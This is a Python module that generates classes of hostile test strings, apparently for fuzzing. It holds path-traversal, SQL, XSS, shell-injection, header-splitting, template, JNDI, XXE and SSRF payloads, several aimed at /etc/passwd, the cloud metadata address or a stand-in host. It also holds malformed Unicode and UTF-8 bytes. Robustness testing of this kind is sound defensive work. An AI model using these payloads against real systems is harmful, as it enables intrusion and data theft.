r"""Hostile strings by class, generated for this project, and byte strings that are no UTF-8.

The classes are those of public lists:

- control and format characters of Unicode, direction overrides, surrogates, and texts that grow by
  normalisation
- format strings, templates, paths, SQL, HTML, shell, XML entities, and line breaks in headers
- addresses, and words and numbers with a meaning for some reader
"""

from __future__ import annotations

from itertools import product

_UP = ("..", "%2e%2e", "%252e%252e", "..;", "....", "．．")  # full-width dots
_SLASHES = ("/", "\\", "%2f", "%5c", "%c0%af", "∕")  # division slash
_SQL = ("' OR '1'='1", '" OR ""="', "1; DROP TABLE t", "1 UNION SELECT NULL,NULL", "'; EXEC x --")
_SQL_ENDS = ("", "--", "#", "/*", ";\x00")
_TAGS = ("img src=x", "svg", "body", "iframe", "details open", "video", "a href=x", "math")
_EVENTS = ("onerror", "onload", "ontoggle", "onfocus autofocus", "onpointerenter")
_COMMANDS = ("id", "touch PWNED", "cat /etc/passwd", "sleep 5")
_JOINTS = (";", "|", "||", "&&", "&", "\n", "$(", "`", ">", "<(")
_BREAKS = ("\r\n", "\n", "\r", "%0d%0a", "\u010d\u010a", "\u2028", "\x85", "\r\n\t")
_HEADERS = ("Set-Cookie: a=b", "X-Admin: 1", "\r\nHTTP/1.1 200 OK")
_FORMATS = (
    "%s %n %x %p %99999d %hhn %1$*2$d %.999999f {} {0} {0.__class__} {x!r:>9999} {{ ~a $1 \\1"
)
_TEMPLATES = ("${7*7}", "{{7*7}}", "#{7*7}", "<%= 7*7 %>", "{%raw%}", "*{7*7}", "@(7*7)", "[[7*7]]")
_LOOKUPS = ("${jndi:ldap://a.example/x}", "${${lower:j}ndi:dns://a.example}", "${env:PATH}", "!!py")
_QUERIES = (
    "*)(uid=*",
    "' or count(/*)=1",
    '{"$gt":""}',
    "[$ne]=1",
    "true, $where: '1'",
    "(&(a=*))",
)
_ADDRESSES = (
    *(
        "http://127.0.0.1:22",
        "http://[::1]/",
        "http://0x7f.1/",
        "http://2130706433/",
        "//a.example",
    ),
    *("http://169.254.169.254/latest/meta-data/", "file:///etc/passwd", "gopher://a.example:25/_x"),
    *(
        "javascript:alert(1)",
        "data:text/html,<p>x",
        "http://a@b.example:80@c.example/",
        "\\\\a\\share",
    ),
)
_WORDS = """
    null nil None undefined NULL (null) true false True TRUE yes no on off then constructor __proto__
    prototype toString hasOwnProperty __class__ __init__ self this NaN nan Infinity -Infinity inf
    CON PRN AUX NUL COM1 LPT9 .htaccess web.config .git/config id_rsa desktop.ini . .. ~root
"""
_NUMBERS = """
    0 -0 +0 00 1. .5 1e1 1e309 -1e309 0x10 0b1 0o7 1_000 1,000 1'000 \u00bd \u00b2 \u0663 \u4e00
    2147483648 -2147483649 4294967296 9223372036854775808 18446744073709551616 1/0 0/0 1e-400 --1
    1-1 $1 1% \u2163
"""
_XML = (
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    '<!DOCTYPE a [<!ENTITY % b SYSTEM "http://a.example/b.dtd"> %b;]><a/>',
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "x"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>',
    '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></x>',
    '<?xml-stylesheet href="http://a.example/x.xsl"?><a/>',
    "<![CDATA[<script>alert(1)</script>]]>",
)
_FORMAT_CODES = (
    *range(0x200B, 0x2010),
    *range(0x202A, 0x202F),
    *range(0x2060, 0x2070),
    *(0xAD, 0x34F, 0x61C, 0x115F, 0x180E, 0x2028, 0x2029, 0x3164, 0xFEFF, 0xFFA0, 0xFFF9, 0xFFFB),
    *(0xE0001, 0xE0041, 0xE007F, 0xFE0F, 0x1D173),
)
_BLANKS = (0xA0, 0x1680, *range(0x2000, 0x200B), 0x202F, 0x205F, 0x3000)
_NONCHARACTERS = (
    0xFDD0,
    0xFDEF,
    *(plane * 0x10000 + 0xFFFE + k for plane in range(17) for k in (0, 1)),
)
_MARKS = (0x300, 0x315, 0x34F, 0x489, 0x5B0, 0xE47, 0x20DD, 0x1AB0)
# Characters that are longer, or other ones, after normalisation or in another case.
_GROWING = (
    "\ufdfa\U0001d160\u0390\u1e9e\u0130\u0131\u017f\u212a\ufb03\u01f0\u1fb7\uff1c\u2100\u33ff\uac01"
)

CLASSES: dict[str, tuple[str, ...]] = {
    "controls": tuple(f"a{chr(code)}b" for code in (*range(32), *range(0x7F, 0xA0))),
    "format characters": tuple(f"a{chr(code)}b" for code in _FORMAT_CODES),
    "blanks": tuple(chr(code) * 3 for code in _BLANKS),
    "noncharacters": tuple(f"a{chr(code)}" for code in _NONCHARACTERS),
    "surrogates": (
        "\ud800",
        "\udbff",
        "\udc00",
        "\udfff",
        "\udc00\ud800",
        "a\ud83d",
        "\\ud800\\u0000",
    ),
    "directions": tuple(
        f"{opened}txt.exe{closed}<b>"
        for opened, closed in product("\u202d\u202e\u202b\u2067\u2068", ("", "\u202c", "\u2069"))
    ),
    "stacked marks": tuple("a" + chr(code) * 500 for code in _MARKS),
    "growing texts": tuple(sign * 2_000 for sign in _GROWING),
    "formats": (*_FORMATS.split(), "%s" * 500, "{0}" * 500),
    "paths": tuple(
        f"{slash.join([up] * 6)}{slash}etc/passwd" for up, slash in product(_UP, _SLASHES)
    ),
    "SQL": tuple(text + end for text, end in product(_SQL, _SQL_ENDS)),
    "HTML": tuple(f"\"'><{tag} {event}=alert(1)>" for tag, event in product(_TAGS, _EVENTS)),
    "shell": tuple(f"a{joint}{command}" for joint, command in product(_JOINTS, _COMMANDS)),
    "header breaks": tuple(f"a{line}{header}" for line, header in product(_BREAKS, _HEADERS)),
    "XML": _XML,
    "templates": (*_TEMPLATES, *_LOOKUPS),
    "queries": _QUERIES,
    "addresses": _ADDRESSES,
    "words": tuple(_WORDS.split()),
    "numbers": tuple(_NUMBERS.split()),
    "sizes": (
        "",
        "\x00" * 1_000,
        "W" * 10_000,
        '"' * 5_000,
        "\\" * 5_001,
        "[" * 5_000,
        "\u00e9" * 5_000,
    ),
}
# Overlong forms, lone and missing continuations, surrogates, beyond U+10FFFF, marks of other encodings.
BYTES: tuple[bytes, ...] = (
    *(b"\xc0\xaf", b"\xe0\x80\xaf", b"\xf0\x80\x80\xaf", b"\xf8\x80\x80\x80\xaf", b"\xc0\x80"),
    *(
        b"\xc1\xbf",
        b"\xe0\x9f\xbf",
        b"\xf0\x8f\xbf\xbf",
        b"\xfc\x80\x80\x80\x80\xaf",
        b"\xc0\xae\xc0\xae",
    ),
    *(
        b"\x80",
        b"\xbf",
        b"\x80\xbf\x80",
        b"\xc2",
        b"\xe2\x82",
        b"\xf0\x9f\x98",
        b"\xf0\x9f\x41",
        b"\xe2\x28\xa1",
    ),
    *(
        b"\xed\xa0\x80",
        b"\xed\xbf\xbf",
        b"\xed\xa0\xbd\xed\xb8\x80",
        b"\xf4\x90\x80\x80",
        b"\xf7\xbf\xbf\xbf",
    ),
    *(
        b"\xfe",
        b"\xff",
        b"\xff\xfea\x00",
        b"\xfe\xff\x00a",
        b"\x00\x00\xfe\xff",
        b"\xef\xbb\xbf",
        b"+ADw-b+AD4-",
    ),
)
